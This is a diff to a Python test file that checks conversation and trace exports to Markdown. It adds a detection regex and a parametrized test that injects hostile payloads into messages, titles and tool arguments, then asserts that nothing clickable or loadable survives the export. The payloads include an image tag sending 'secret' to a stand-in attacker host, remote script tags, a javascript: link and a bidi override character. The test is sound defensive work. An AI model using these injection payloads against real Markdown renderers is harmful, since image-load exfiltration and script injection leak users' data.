@@ -1,6 +1,8 @@
 """Traces and exports: everything, uncut, in a file."""
 
 import json
+import re
+from dataclasses import replace
 from datetime import UTC, datetime
 from typing import Any
 
@@ -63,6 +65,28 @@ def test_a_conversation_as_markdown() -> None:
     places = [text.index(part) for part in order]
     assert places == sorted(places)
     assert "## Bob" in text
+
+
+LIVE = re.compile(r"(?i)\w://|\]\(|\]:|<[a-z/!?]|www\.|mailto:|[\u202a-\u202e]")
+"""What a program that shows Markdown, of whatever kind, would make a link, a picture or a page of."""
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<img src='//evil.example/log.png?q=secret'> <script src=//evil.example></script> <!-- --> <?php ?>",
+        "![look][1] and [there]\n\n[1]: //evil.example/log.png\n[there]: javascript:alert(1)\n> [x] : //evil.example",
+        "www.evil.example WWW.evil.example mailto:a@evil.example <a href=//evil.example>here</a>",
+        "[the next chapter](//evil.example) ![](//evil.example/log.png) https://evil.example \u202eredro",
+    ],
+)
+def test_nothing_in_a_file_can_be_clicked_or_loads_anything(attack: str) -> None:
+    call = replace(CALL, arguments={"query": attack}, content=attack)
+    messages = [message(1, MessageRole.USER, attack, author_name=attack), message(2, MessageRole.ASSISTANT, attack)]
+    conversation = replace(CONVERSATION, title=attack)
+    exported = export_conversation(conversation, attack, messages, ExportFormat.MARKDOWN).decode()
+    assert not LIVE.search(exported)
+    assert not LIVE.search(trace_markdown([call], attack).decode())
 
 
 def test_a_conversation_as_json() -> None:
